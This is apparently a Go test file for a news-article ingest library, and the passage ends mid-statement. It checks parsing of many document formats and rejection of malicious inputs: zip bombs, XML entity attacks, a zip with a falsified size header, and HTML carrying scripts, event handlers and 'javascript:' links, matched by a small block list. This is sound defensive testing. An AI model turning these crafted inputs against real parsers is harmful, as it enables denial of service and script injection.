package ingest

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"briefdesk/internal/domain"
	"briefdesk/internal/evaldata"
)

// The fixtures under testdata/good all carry this article (written for
// Briefdesk by testdata/gen), so each must give exactly these paragraphs.
const (
	wantTitle      = "Nordic and Baltic states agree to pool coastguard patrols"
	wantStandfirst = "Ministers say joint patrols will start in the spring after a string of cable incidents"
	wantByline     = "Marta Lind and Jonas Keller"
)

var wantBody = []string{
	"Eight Nordic and Baltic governments agreed on Tuesday to pool their coastguard patrols in the Baltic Sea, saying a string of damaged undersea cables had shown that no country could watch its waters alone.",
	"“We cannot guard every kilometre of cable on our own, and we should not pretend that we can,” Estonia’s interior minister, Kadri Tamm, told reporters after the meeting in Tallinn.",
	"Under the plan, patrol boats and aircraft from Denmark, Estonia, Finland, Iceland, Latvia, Lithuania, Norway and Sweden will share a single picture of shipping traffic from April, and crews will be able to board suspect vessels in each other’s waters with permission.",
	"The ministers set aside 140 million euros for the first two years – about half of it for drones and sensors – and asked the European Commission to match the sum.",
	"Officials said at least 11 cables and two pipelines had been damaged in the region since October 2023, in incidents that investigators have linked to ships dragging their anchors.",
	"Russia has denied any involvement. Its embassy in Tallinn called the plan “another step in the militarisation of the Baltic” in a statement on Tuesday evening.",
	"The first joint exercise is planned for May off the Finnish island of Hailuoto, the ministers said.",
}

func TestGoodFixtures(t *testing.T) {
	march3 := "2026-03-03"
	tests := []struct {
		file                                                string
		format                                              domain.Format
		title, standfirst, byline, dateline, credit, source string
		published                                           string // YYYY-MM-DD or ""
		onePara                                             bool   // body in one paragraph (CNN-style text)
		struck                                              bool   // the PDF shows the deleted revision, struck through
		textOnly                                            bool   // paragraph breaks cannot be seen: compare the text
	}{
		{file: "seed-style.txt", format: domain.FormatText, title: wantStandfirst, standfirst: wantStandfirst, byline: wantByline, credit: "AA", source: "AA"},
		{file: "bbc-style.txt", format: domain.FormatText, title: wantTitle},
		{file: "wrapped.txt", format: domain.FormatText, title: wantTitle, byline: wantByline, published: march3},
		{file: "wrapped-noblank.txt", format: domain.FormatText, title: wantTitle},
		{file: "reuters.txt", format: domain.FormatText, title: wantTitle, byline: wantByline, dateline: "TALLINN, March 3 (Reuters)", source: "Reuters"},
		{file: "cnn-style.txt", format: domain.FormatText, title: "Eight Nordic and Baltic governments agreed on Tuesday to pool their coastguard patrols in the Baltic Sea, saying a string of damaged undersea cables…", dateline: "TALLINN, Estonia (CNN)", source: "CNN", onePara: true},
		{file: "photo-caption.txt", format: domain.FormatText, title: wantTitle, published: march3},
		{file: "crlf-nbsp.txt", format: domain.FormatText, title: wantTitle},
		{file: "utf8-bom.txt", format: domain.FormatText, title: wantTitle},
		{file: "utf16le.txt", format: domain.FormatText, title: wantTitle},
		{file: "utf16be.txt", format: domain.FormatText, title: wantTitle},
		{file: "cp1252.txt", format: domain.FormatText, title: wantTitle},
		{file: "lying-extension.pdf", format: domain.FormatText, title: wantTitle},
		{file: "article.md", format: domain.FormatMD, title: wantTitle, byline: wantByline, published: march3},
		{file: "article.html", format: domain.FormatHTML, title: wantTitle, standfirst: wantStandfirst, byline: wantByline, source: "Briefdesk Test Wire", published: march3},
		{file: "news-site.html", format: domain.FormatHTML, title: wantTitle, standfirst: wantStandfirst, byline: wantByline, source: "Briefdesk News", published: march3},
		{file: "saved-page.mhtml", format: domain.FormatHTML, title: wantTitle, standfirst: wantStandfirst, byline: wantByline, source: "Briefdesk News", published: march3},
		{file: "cp1252.html", format: domain.FormatHTML, title: wantTitle, standfirst: wantStandfirst, byline: wantByline, source: "Briefdesk Test Wire", published: march3},
		{file: "article.pdf", format: domain.FormatPDF, title: wantTitle, byline: wantByline},
		{file: "two-column.pdf", format: domain.FormatPDF, title: wantTitle},
		{file: "unicode-font.pdf", format: domain.FormatPDF, title: wantTitle},
		{file: "article.docx", format: domain.FormatDOCX, title: wantTitle, standfirst: wantStandfirst, byline: wantByline},
		{file: "article.odt", format: domain.FormatODT, title: wantTitle, standfirst: wantStandfirst, byline: wantByline},
		{file: "article.rtf", format: domain.FormatRTF, title: wantTitle, byline: wantByline},
		// Converted from article.docx by LibreOffice 7.4 (see testdata/gen):
		// real producers' layouts, subset fonts, revisions and hidden text.
		{file: "libreoffice.odt", format: domain.FormatODT, title: wantTitle, standfirst: wantStandfirst, byline: wantByline},
		{file: "libreoffice.docx", format: domain.FormatDOCX, title: wantTitle, standfirst: wantStandfirst, byline: wantByline},
		{file: "libreoffice.rtf", format: domain.FormatRTF, title: wantTitle, standfirst: wantStandfirst, byline: wantByline},
		{file: "libreoffice.pdf", format: domain.FormatPDF, title: wantTitle, standfirst: wantStandfirst, byline: wantByline, struck: true},
		// No spacing or indent marks its paragraphs and some end on full
		// lines: only the text and its reading order can be checked.
		{file: "libreoffice-2col.pdf", format: domain.FormatPDF, title: wantTitle, standfirst: wantStandfirst, byline: wantByline, struck: true, textOnly: true},
		{file: "two-column.docx", format: domain.FormatDOCX, title: wantTitle, standfirst: wantStandfirst, byline: wantByline},
		{file: "article.eml", format: domain.FormatEML, title: wantTitle, byline: wantByline, published: march3},
		{file: "html-only.eml", format: domain.FormatEML, title: wantTitle, published: march3},
		{file: "attached.eml", format: domain.FormatEML, title: wantTitle, published: march3},
	}
	wantHash := TextHash(strings.Join(wantBody, "\n\n"))
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			path := filepath.Join("testdata", "good", tc.file)
			a, err := File(path)
			if err != nil {
				t.Fatal(err)
			}
			check := func(field, got, want string) {
				t.Helper()
				if got != want {
					t.Errorf("%s = %q, want %q", field, got, want)
				}
			}
			check("format", string(a.Origin.Format), string(tc.format))
			check("title", a.Title, tc.title)
			check("standfirst", a.Standfirst, tc.standfirst)
			check("byline", a.Byline, tc.byline)
			check("dateline", a.Dateline, tc.dateline)
			check("credit", a.Credit, tc.credit)
			check("source", a.Source, tc.source)
			check("language", a.Language, "en")
			pub := ""
			if !a.Published.IsZero() {
				pub = a.Published.Format("2006-01-02")
			}
			check("published", pub, tc.published)
			want := wantBody
			if tc.onePara {
				want = []string{strings.Join(wantBody, " ")}
			}
			if tc.struck {
				want = append([]string{wantBody[0], "This sentence was deleted in review."}, wantBody[1:]...)
			}
			if tc.textOnly {
				check("text", strings.Join(a.Paragraphs, " "), strings.Join(want, " "))
				return
			}
			if len(a.Paragraphs) != len(want) {
				t.Fatalf("%d paragraphs, want %d:\n%s", len(a.Paragraphs), len(want), strings.Join(a.Paragraphs, "\n---\n"))
			}
			for i := range want {
				check("paragraph", a.Paragraphs[i], want[i])
			}
			if !tc.struck {
				check("text hash", a.TextHash, wantHash)
			}
			if tc.format == domain.FormatHTML && bytes.Contains(bytes.ToLower(a.Origin.Original), []byte("<script")) {
				t.Error("stored page keeps a script")
			}

			data, _ := os.ReadFile(path)
			if a.Origin.Size != int64(len(data)) || len(a.Origin.SHA256) != 64 || a.Origin.Name != path || a.Origin.ImportedAt.IsZero() ||
				a.Origin.ImportedAt.Location() != time.UTC || len(a.Origin.Original) == 0 {
				t.Errorf("origin = %+v", a.Origin)
			}
			if tc.format != domain.FormatHTML && !bytes.Equal(a.Origin.Original, data) {
				t.Error("original bytes not kept")
			}
		})
	}
}

func TestFrenchMarkedNotEnglish(t *testing.T) {
	a, err := File("testdata/good/french.txt")
	if err != nil {
		t.Fatal(err)
	}
	if a.Language != "fr" || a.Supported() {
		t.Errorf("language = %q, supported %v; want fr, unsupported", a.Language, a.Supported())
	}
	if a.Title != "Coopération en mer Baltique" || len(a.Paragraphs) != 3 {
		t.Errorf("title %q, %d paragraphs", a.Title, len(a.Paragraphs))
	}
}

func TestBadFixtures(t *testing.T) {
	tests := []struct{ file, reason string }{
		{"empty.txt", "file is empty"},
		{"whitespace.txt", "file contains only whitespace"},
		{"junk.txt", "not a text file: it contains binary data"},
		{"junk.pdf", "not a valid PDF"},
		{"image.txt", "PNG image"},
		{"old-word.doc", "old binary Office file"},
		{"encrypted.pdf", "PDF is password-protected"},
		{"image-only.pdf", "PDF has no text layer (scanned or image-only?)"},
		{"truncated.pdf", "not a valid PDF: the file is damaged or truncated"},
		{"corrupt.docx", "not a valid Word document: zip is corrupt"},
		{"zip-bomb.docx", "zip bomb"},
		{"billion-laughs.docx", "XML entity declarations"},
		{"external-entity.odt", "XML entity declarations"},
		{"deep.rtf", "nested too deeply"},
		{"spreadsheet.docx", "Excel workbook"},
		{"no-text.html", "web page has no article text"},
		{"attachment-only.eml", "e-mail has no text body"},
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			path := filepath.Join("testdata", "bad", tc.file)
			a, err := File(path)
			if err == nil {
				t.Fatalf("imported %q, want error %q", a.Title, tc.reason)
			}
			var ie *domain.InputError
			if !errors.As(err, &ie) {
				t.Fatalf("error %T %v is not an InputError", err, err)
			}
			if ie.Path != path || !strings.Contains(ie.Reason, tc.reason) {
				t.Errorf("got %q (path %q), want reason containing %q", ie.Reason, ie.Path, tc.reason)
			}
		})
	}
}

// Scripts and event handlers are neither in the body nor in the stored page.
func TestScriptsNeverKept(t *testing.T) {
	a, err := File("testdata/bad/scripts.html")
	if err != nil {
		t.Fatal(err)
	}
	body := a.Body()
	for _, bad := range []string{"alert", "INJECTED", "document.", "evil.example"} {
		if strings.Contains(body, bad) {
			t.Errorf("body contains %q", bad)
		}
	}
	stored := strings.ToLower(string(a.Origin.Original))
	for _, bad := range []string{"<script", "onclick", "onerror", "onmouseover", "javascript:", "<iframe", "injected"} {
		if strings.Contains(stored, bad) {
			t.Errorf("stored HTML contains %q", bad)
		}
	}
	if !strings.Contains(stored, "pool their coastguard patrols") {
		t.Error("stored HTML lost the article")
	}
	if a.Paragraphs[0] != wantBody[0] {
		t.Errorf("first paragraph %q", a.Paragraphs[0])
	}
}

// A truncated page imports what arrived, cut where the file ends.
func TestTruncatedHTML(t *testing.T) {
	a, err := File("testdata/bad/truncated.html")
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != wantTitle || len(a.Paragraphs) != 5 || a.Paragraphs[3] != wantBody[3] {
		t.Errorf("title %q, %d paragraphs", a.Title, len(a.Paragraphs))
	}
}

func TestTooLargeRefusedWithoutReading(t *testing.T) {
	path := filepath.Join(t.TempDir(), "huge.txt")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	// A sparse file: 51 MB by size, nothing on disk. Reading it would
	// still cost time and memory; the size alone must refuse it.
	if err := f.Truncate(MaxSize + 1<<20); err != nil {
		t.Fatal(err)
	}
	f.Close()
	_, err = File(path)
	var ie *domain.InputError
	if !errors.As(err, &ie) || ie.Reason != "file is larger than 50 MB" {
		t.Fatalf("got %v", err)
	}
	if _, err := Parse("big.txt", make([]byte, MaxSize+1)); err == nil || !strings.Contains(err.Error(), "larger than 50 MB") {
		t.Errorf("Parse: %v", err)
	}
}

// A zip entry whose header understates its size still cannot inflate
// beyond the limit.
func TestZipEntryLyingAboutSize(t *testing.T) {
	defer func(n int64) { maxXMLSize = n }(maxXMLSize)
	maxXMLSize = 4 << 20
	var comp bytes.Buffer
	zw := zip.NewWriter(&comp)
	w, _ := zw.Create("word/document.xml")
	w.Write([]byte("<w:document><w:body><w:p><w:r><w:t>"))
	chunk := bytes.Repeat([]byte("b"), 1<<20)
	for i := 0; i < 8; i++ {
		w.Write(chunk)
	}
	w.Write([]byte("</w:t></w:r></w:p></w:body></w:document>"))
	zw.Close()
	data := comp.Bytes()
	// Patch the declared uncompressed size (central directory and local
	// header) down to 1 KB.
	for _, sig := range [][]byte{[]byte("PK\x01\x02"), []byte("PK\x03\x04")} {
		i := bytes.Index(data, sig)
		off := 24
		if sig[2] == 3 {
			off = 22
		}
		copy(data[i+off:], []byte{0, 4, 0, 0})
	}
	_, err := Parse("liar.docx", data)
	if err == nil {
		t.Fatal("imported a lying zip")
	}
	if !strings.Contains(err.Error(), "Word document") {
		t.Errorf("reason %q", err)
	}
}

func TestSeedMatchesGold(t *testing.T) {
	seed := evaldata.Path(t, "seed/000_7fdd438a3d7ae7ec.txt")
	data, err := os.ReadFile(seed)
	if err != nil {
		t.Fatal(err)
	}
	goldData, err := os.ReadFile(evaldata.Path(t, "eval/seed-gold.json"))
	if err != nil {
		t.Fatal(err)
	}
	var gold []struct {
		Metadata struct{ Standfirst, Byline, Credit string }
	}
	if err := json.Unmarshal(goldData, &gold); err != nil || len(gold) == 0 {
		t.Fatal("bad gold file: ", err)
	}
	a, err := Parse(seed, data)
	if err != nil {
		t.Fatal(err)
	}
	g := gold[0].Metadata
	if a.Standfirst != g.Standfirst || a.Byline != g.Byline || a.Credit != g.Credit {
		t.Errorf("standfirst %q byline %q credit %q; want %q %q %q", a.Standfirst, a.Byline, a.Credit, g.Standfirst, g.Byline, g.Credit)
	}
	if a.Title != g.Standfirst {
		t.Errorf("title %q", a.Title)
	}
	if !strings.HasPrefix(a.Body(), "NATO has invited Russia") {
		t.Errorf("body starts %.60q", a.Body())
	}
	for _, meta := range []string{"By Agnes", "Credit", "•"} {
		if strings.Contains(a.Body(), meta) {
			t.Errorf("body contains metadata %q", meta)
		}
	}
	if a.Language != "en" || len(a.Paragraphs) != 13 {
		t.Errorf("language %q, %d paragraphs", a.Language, len(a.Paragraphs))
	}
}

func TestPaste(t *testing.T) {
	a, err := Paste("Ministers meet in Tallinn\n\n" + strings.Join(wantBody, "\n\n"))
	if err != nil {
		t.Fatal(err)
	}
	if a.Origin.Format != domain.FormatPaste || a.Title != "Ministers meet in Tallinn" || a.Origin.Name != "pasted text" {
		t.Errorf("got %q %q", a.Origin.Format, a.Title)
	}
	if a.TextHash != TextHash(strings.Join(wantBody, "\n\n")) {
		t.Error("pasted article hashes differently from the same file")
	}
	h, err := Paste("<h1>Talks fail</h1><p>The talks in Geneva ended without a deal on Friday.</p><p>They will meet again in May.</p>")
	if err != nil || h.Origin.Format != domain.FormatHTML || h.Title != "Talks fail" || len(h.Paragraphs) != 2 {
		t.Errorf("pasted HTML: %v %+v", err, h)
	}
	if _, err := Paste(" \n\t "); err == nil {
		t.Error("blank paste accepted")
	}
	if _, err := Paste("https://example.org/story\n"); err == nil || !strings.Contains(err.Error(), "link") {
		t.Errorf("pasted link: %v", err)
	}
}

func TestExpandFolder(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a.txt", "Title\n\nBody text of the first article.")
	write("sub/b.txt", "Title\n\nBody text of the second article.")
	write("sub/empty.txt", "")
	write(".hidden/c.txt", "hidden")
	write(".DS_Store", "junk")
	write("~$lock.docx", "lock")
	write("saved.html", "<html><body><p>A saved page with enough words to count as an article body.</p></body></html>")
	write("saved_files/style.css", "p{}")
	write("saved_files/photo.txt", "not an article")
	write("sub/app.js", "x()")
	files, errs := Expand([]string{dir, "https://example.org/story", filepath.Join(dir, "missing.txt")})
	if len(errs) != 1 || !strings.Contains(errs[0].Error(), "no such file or folder") {
		t.Errorf("errors %v", errs)
	}
	var names []string
	for _, f := range files {
		names = append(names, strings.TrimPrefix(f, dir+string(filepath.Separator)))
	}
	if got := strings.Join(names, ","); got != "a.txt,saved.html,sub/b.txt,sub/empty.txt,https://example.org/story" {
		t.Errorf("files %s", got)
	}
	// The folder import reports the bad file and keeps the good ones.
	var ok, failed int
	for _, f := range files[:4] {
		if _, err := File(f); err != nil {
			failed++
		} else {
			ok++
		}
	}
	if ok != 3 || failed != 1 {
		t.Errorf("ok %d failed %d", ok, failed)
	}
}

func TestIsURL(t *testing.T) {
	for s, want := range map[string]bool{
		"https://example.org/a": true, "HTTP://EXAMPLE.ORG": true, " http://x.org/a ": true,
		"ftp://example.org": false, "/home/a.html": false, "https://a b": false, "javascript:alert(1)": false,
	} {
		if IsURL(s) != want {
			t.Errorf("IsURL(%q) = %v", s, !want)
		}
	}
}

func TestDuplicateHashes(t *testing.T) {
	body := strings.Join(wantBody, "\n\n")
	h := SimHash(body)
	// Same story re-published with small edits: a changed word, a
	// dropped sentence, an added one.
	edited := strings.Replace(body, "Tuesday to pool", "Tuesday to combine", 1)
	edited = strings.Replace(edited, wantBody[6], "", 1) + "\n\nThe agreement still needs approval from national parliaments."
	if d := Distance(h, SimHash(edited)); d > NearDuplicate {
		t.Errorf("edited story at distance %d, want <= %d", d, NearDuplicate)
	}
	if TextHash(edited) == TextHash(body) {
		t.Error("edited story has the same text hash")
	}
	other, _ := os.ReadFile("testdata/good/french.txt")
	if d := Distance(h, SimHash(string(other))); d <= NearDuplicate {
		t.Errorf("unrelated story at distance %d", d)
	}
	// Quote styles, case and line breaks do not change the text hash.
	plain := strings.NewReplacer("“", "\"", "”", "\"", "’", "'").Replace(strings.ToUpper(strings.ReplaceAll(body, "\n\n", "\n")))
	if TextHash(plain) != TextHash(body) {
		t.Error("text hash depends on quotes, case or line breaks")
	}
}

// Metadata lines in the layouts desks receive, one case each.
func TestStructure(t *testing.T) {
	tests := []struct {
		name, in                                            string
		title, standfirst, byline, dateline, credit, source string
		published                                           string
		first, last                                         string // first and last body paragraph
		paras                                               int    // number of body paragraphs, when checked
	}{
		{name: "cnn bare", in: "(CNN)The talks ended without a deal on Friday. Both sides said they would meet again.",
			title: "The talks ended without a deal on Friday.", dateline: "(CNN)", source: "CNN",
			first: "The talks ended without a deal on Friday. Both sides said they would meet again."},
		{name: "cnn place", in: "LONDON, England (CNN) -- The talks ended without a deal on Friday.",
			title: "The talks ended without a deal on Friday.", dateline: "LONDON, England (CNN)", source: "CNN",
			first: "The talks ended without a deal on Friday."},
		{name: "ap em dash", in: "Talks fail\n\nWASHINGTON (AP) — The talks ended without a deal on Friday.",
			title: "Talks fail", dateline: "WASHINGTON (AP)", source: "Associated Press", first: "The talks ended without a deal on Friday."},
		{name: "afp day month", in: "Talks fail\n\nWritten by Ann Berg\n\nPARIS, 3 March (AFP) - The talks ended without a deal on Friday.",
			title: "Talks fail", byline: "Ann Berg", dateline: "PARIS, 3 March (AFP)", source: "Agence France-Presse", first: "The talks ended without a deal on Friday."},
		{name: "author label", in: "Talks fail\nAuthor: Ann Berg\nThe talks ended without a deal on Friday.",
			title: "Talks fail", byline: "Ann Berg", first: "The talks ended without a deal on Friday."},
		{name: "caps dateline", in: "Talks fail\n\nKYIV — The talks ended without a deal on Friday, officials said.",
			title: "Talks fail", dateline: "KYIV", first: "The talks ended without a deal on Friday, officials said."},
		{name: "reuters tail", in: "Talks fail\n\nBy Ann Berg and Tom Holt\n\nGENEVA, March 3 (Reuters) - The talks ended.\n\nThey will resume in May.\n\n(Reporting by Ann Berg; Editing by Tom Holt)",
			title: "Talks fail", byline: "Ann Berg and Tom Holt", dateline: "GENEVA, March 3 (Reuters)", source: "Reuters",
			first: "The talks ended.", last: "They will resume in May."},
		{name: "dash tail and contributors", in: "Talks fail\n\nThe talks ended.\n\nThey will resume in May.\n\nAssociated Press writer Tom Holt in Geneva contributed to this report.\n\n-- Reporting by Ann Berg; Editing by Tom Holt",
			title: "Talks fail", byline: "Ann Berg", first: "The talks ended.", last: "They will resume in May.", paras: 2},
		{name: "reporting inline", in: "Talks fail\n\nThe talks ended. They will resume in May. (Reporting by Ann Berg in Geneva; Editing by Tom Holt)",
			title: "Talks fail", byline: "Ann Berg in Geneva", first: "The talks ended. They will resume in May."},
		{name: "published and updated", in: "Talks fail\nPublished: Thursday 5 March 2026 10:15 GMT\nUpdated 11:02 GMT\nThe talks ended without a deal.",
			title: "Talks fail", published: "2026-03-05", first: "The talks ended without a deal."},
		{name: "byline with pipe date", in: "Talks fail\nBy Ann Berg | March 5, 2026\nThe talks ended without a deal.",
			title: "Talks fail", byline: "Ann Berg", published: "2026-03-05", first: "The talks ended without a deal."},
		{name: "credit and photo", in: "Talks fail\n\nThe talks ended without a deal.\n\nPhoto: Delegates leave the hall. (Reuters)\n\nThey resume in May.\n\nCredit | AA",
			title: "Talks fail", credit: "AA", source: "AA", first: "The talks ended without a deal.", last: "They resume in May."},
		{name: "no title line", in: "The talks in Geneva ended without a deal on Friday after three days of meetings between the delegations, officials said. Both sides blamed each other.\n\nThey will meet again in May.",
			title: "The talks in Geneva ended without a deal on Friday after three days of meetings between the delegations, officials said.",
			first: "The talks in Geneva ended without a deal on Friday after three days of meetings between the delegations, officials said. Both sides blamed each other.",
			last:  "They will meet again in May."},
		{name: "body line starting By", in: "Talks fail\n\nBy the end of the day, the talks had ended without a deal.",
			title: "Talks fail", first: "By the end of the day, the talks had ended without a deal."},
		{name: "web furniture", in: "Talks fail\n\nThe talks ended without a deal.\n\nImage source, Getty Images\n\nImage caption, Delegates left Geneva on Friday\n\nAdvertisement\n\nRead more: Why the talks matter\n\nThey will meet again in May.",
			title: "Talks fail", first: "The talks ended without a deal.", last: "They will meet again in May.", paras: 2},
		{name: "date before title", in: "3 March 2026\nTalks fail\nBy Ann Berg\nThe talks ended without a deal.",
			title: "Talks fail", byline: "Ann Berg", published: "2026-03-03", first: "The talks ended without a deal."},
		{name: "by month not a byline", in: "Talks fail\n\nBy March, analysts expected a deal.\n\nIt did not come.",
			title: "Talks fail", first: "By March, analysts expected a deal.", last: "It did not come."},
		{name: "byline with role", in: "Talks fail\n\nBy Ann Berg, diplomatic correspondent\n\nThe talks ended.",
			title: "Talks fail", byline: "Ann Berg, diplomatic correspondent", first: "The talks ended."},
		{name: "update label", in: "Talks fail\n\n(Update) The talks ended without a deal.",
			title: "Talks fail", first: "(Update) The talks ended without a deal."},
		{name: "caps then lower", in: "Talks fail\n\nNATO — the alliance said the talks ended without a deal.",
			title: "Talks fail", first: "NATO — the alliance said the talks ended without a deal."},
		{name: "breaking label", in: "Talks fail\n\nBREAKING — The talks ended without a deal on Friday.",
			title: "Talks fail", first: "BREAKING — The talks ended without a deal on Friday."},
		{name: "bracket not a dateline", in: "Talks fail\n\n(Updated with quotes) The talks ended.",
			title: "Talks fail", first: "(Updated with quotes) The talks ended."},
		{name: "one sentence per line", in: "Talks fail\nThe talks ended without a deal on Friday.\nThey will meet again in May.",
			title: "Talks fail", first: "The talks ended without a deal on Friday.", last: "They will meet again in May."},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a, err := Parse(tc.name+".txt", []byte(tc.in))
			if err != nil {
				t.Fatal(err)
			}
			pub := ""
			if !a.Published.IsZero() {
				pub = a.Published.Format("2006-01-02")
			}
			last := tc.last
			if last == "" {
				last = tc.first
			}
			got := []string{a.Title, a.Standfirst, a.Byline, a.Dateline, a.Credit, a.Source, pub, a.Paragraphs[0], a.Paragraphs[len(a.Paragraphs)-1]}
			want := []string{tc.title, tc.standfirst, tc.byline, tc.dateline, tc.credit, tc.source, tc.published, tc.first, last}
			names := []string{"title", "standfirst", "byline", "dateline", "credit", "source", "published", "first", "last"}
			if tc.paras > 0 && len(a.Paragraphs) != tc.paras {
				t.Errorf("%d paragraphs, want %d: %q", len(a.Paragraphs), tc.paras, a.Paragraphs)
			}
			for i := range got {
				if got[i] != want[i] {
					t.Errorf("%s = %q, want %q", names[i], got[i], want[i])
				}
			}
		})
	}
}

// Typographic spaces and Unicode forms are normalised; quotes and dashes
// are kept as written.
func TestNormalize(t *testing.T) {
	in := "Cafe\u0301\u00a0talks\u2009–\u202Fa “deal”\u200b\r\nend"
	if got, want := normalize(in), "Café talks – a “deal”\nend"; got != want {
		t.Errorf("normalize = %q, want %q", got, want)
	}
}

func TestRTFEscapes(t *testing.T) {
	in := `{\rtf1\ansi\ansicpg1251{\fonttbl{\f0 Arial;}}{\*\revtbl{x}}\uc1 \'cf\'f0\'e8\'e2\'e5\'f2 \u8212? \u-3913? ok\par
{\field{\*\fldinst HYPERLINK "http://x"}{\fldrslt link text}}\line next\~line\par}`
	d, err := parseRTF([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	// The short first line is taken as the title, as in any text.
	if want := "Привет — \uf0b7 ok"; d.title != want {
		t.Errorf("title %q, want %q", d.title, want)
	}
	if got, want := strings.Join(d.paras, "|"), "link text|next line"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// A Cyrillic font (\fcharset204) in a document declared Windows-1252.
func TestRTFFontCharset(t *testing.T) {
	in := `{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\froman\fcharset0 Times;}{\f1\fswiss\fcharset204{\*\panose 020b0604020202020204}Arial;}}` +
		`\pard\f0 Caf\'e9 talks\par\pard{\f1 \'cf\'f0\'e8\'e2\'e5\'f2 \'ec\'e8\'f0}\par}`
	d, err := parseRTF([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if d.title != "Café talks" || strings.Join(d.paras, "|") != "Привет мир" {
		t.Errorf("title %q paragraphs %q", d.title, d.paras)
	}
}

func TestHTMLCharsetFromMeta(t *testing.T) {
	page := "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1251\"><title>Переговоры</title></head><body><article><h1>Переговоры</h1>" +
		"<p>Министры иностранных дел встретились в Женеве и договорились продолжить переговоры в мае, сообщили официальные лица после встречи.</p>" +
		"<p>Обе стороны заявили, что разговор был трудным, но полезным для дальнейшей работы.</p></article></body></html>"
	data, err := encodeCP1251(page)
	if err != nil {
		t.Fatal(err)
	}
	a, err := Parse("ru.html", data)
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != "Переговоры" || a.Language != "ru" || !strings.HasPrefix(a.Body(), "Министры иностранных дел") {
		t.Errorf("title %q language %q body %.40q", a.Title, a.Language, a.Body())
	}
}

// Undeclared legacy encodings of other scripts are recognised.
func TestUndeclaredCyrillicText(t *testing.T) {
	text := "Переговоры в Женеве\n\nМинистры иностранных дел встретились в Женеве и договорились продолжить переговоры в мае, сообщили официальные лица после встречи.\n\nОбе стороны заявили, что разговор был трудным, но полезным для дальнейшей работы.\n"
	data, err := encodeCP1251(text)
	if err != nil {
		t.Fatal(err)
	}
	a, err := Parse("ru.txt", data)
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != "Переговоры в Женеве" || a.Language != "ru" || len(a.Paragraphs) != 2 {
		t.Errorf("title %q language %q %d paragraphs", a.Title, a.Language, len(a.Paragraphs))
	}
}

func TestMarkdownSetextAndNewsletter(t *testing.T) {
	md := "Talks fail\n==========\n\nThe talks ended without a deal on **Friday**.\n\nNext steps\n----------\n\nThey will meet in May.\n"
	a, err := Parse("a.md", []byte(md))
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != "Talks fail" || strings.Join(a.Paragraphs, "|") != "The talks ended without a deal on Friday.|Next steps|They will meet in May." {
		t.Errorf("title %q paragraphs %q", a.Title, a.Paragraphs)
	}
	eml := "From: news@example.org\r\nTo: b@example.org\r\nSubject: Talks fail\r\nDate: Wed, 04 Mar 2026 08:00:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
		"View this email in your browser\r\n\r\nThe talks ended without a deal on Friday.\r\n\r\nThey will meet in May.\r\n\r\nYou are receiving this because you subscribed.\r\nUnsubscribe | Manage preferences\r\n"
	a, err = Parse("n.eml", []byte(eml))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(a.Paragraphs, "|") != "The talks ended without a deal on Friday.|They will meet in May." {
		t.Errorf("paragraphs %q", a.Paragraphs)
	}
}

// A German Word file: localised style IDs, a text box written twice
// (mc:AlternateContent), a field result that is shown.
func TestDOCXStylesAndTextBoxes(t *testing.T) {
	doc := `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w" xmlns:mc="mc"><w:body>` +
		`<w:p><w:pPr><w:pStyle w:val="Titel"/></w:pPr><w:r><w:t>Talks fail</w:t></w:r></w:p>` +
		`<w:p><w:r><w:t>The talks ended without a deal on Friday, officials in Geneva said.</w:t></w:r></w:p>` +
		`<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><w:txbxContent><w:p><w:r><w:t>Box text</w:t></w:r></w:p></w:txbxContent></w:drawing></mc:Choice>` +
		`<mc:Fallback><w:pict><w:txbxContent><w:p><w:r><w:t>Box text</w:t></w:r></w:p></w:txbxContent></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>` +
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>They meet in May.</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		`</w:body></w:document>`
	styles := `<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="w"><w:style w:type="paragraph" w:styleId="Titel"><w:name w:val="Title"/></w:style></w:styles>`
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range map[string]string{"word/document.xml": doc, "word/styles.xml": styles} {
		w, _ := zw.Create(name)
		w.Write([]byte(body))
	}
	zw.Close()
	a, err := Parse("de.docx", buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(a.Paragraphs, "|"); a.Title != "Talks fail" || got != "The talks ended without a deal on Friday, officials in Geneva said.|Box text|They meet in May." {
		t.Errorf("title %q paragraphs %q", a.Title, got)
	}
}

// Outlook forwards with a rule and a header block, no "Forwarded" line.
func TestOutlookForward(t *testing.T) {
	msg := "From: a@example.org\r\nTo: b@example.org\r\nSubject: FW: patrols\r\nDate: Wed, 04 Mar 2026 08:00:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
		"Worth reading.\r\n\r\n________________________________\r\nFrom: Wire Desk <desk@example.org>\r\nSent: Tuesday, March 3, 2026 10:15 AM\r\nTo: Officer\r\nSubject: " + wantTitle + "\r\n\r\n" +
